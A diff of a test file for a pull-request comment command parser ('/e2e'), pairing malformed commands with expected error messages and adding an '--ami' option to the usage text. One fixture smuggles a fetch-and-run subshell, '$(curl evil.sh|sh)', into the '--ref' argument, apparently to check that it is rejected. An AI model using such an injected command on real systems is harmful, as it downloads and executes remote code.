@@ -54,7 +54,7 @@ describe('PR comment commands', () => {
     ['/e2e cancel stg4-20261121-a1b2c3', "`/e2e cancel` takes no run id: it cancels this pull request's run"],
     ['/e2e canel', 'unknown command `canel` — did you mean `cancel`? (in a pull request: launch, cancel, retest, help)'],
     ['/e2e stg9', 'unknown environment `stg9`; known: stg1, stg2, stg3, stg4'],
-    ['/e2e stg2 stg3', 'unexpected argument `stg3`; usage: `/e2e [env] [--browsers=a,b] [--keep[=DURATION]] [--ref=REF] [--dry-run]`'],
+    ['/e2e stg2 stg3', 'unexpected argument `stg3`; usage: `/e2e [env] [--browsers=a,b] [--keep[=DURATION]] [--ref=REF] [--dry-run] [--ami=candidate|AMI]`'],
     ['/e2e help status', 'unknown command `status`; commands: launch, cancel, retest, help'],
     ['/e2e --browsers=opera', 'unknown browser `opera`; known: chrome, firefox, safari, edge'],
     ['/e2e --ref=$(curl evil.sh|sh)', 'unknown environment `evil.sh|sh)`; known: stg1, stg2, stg3, stg4'],
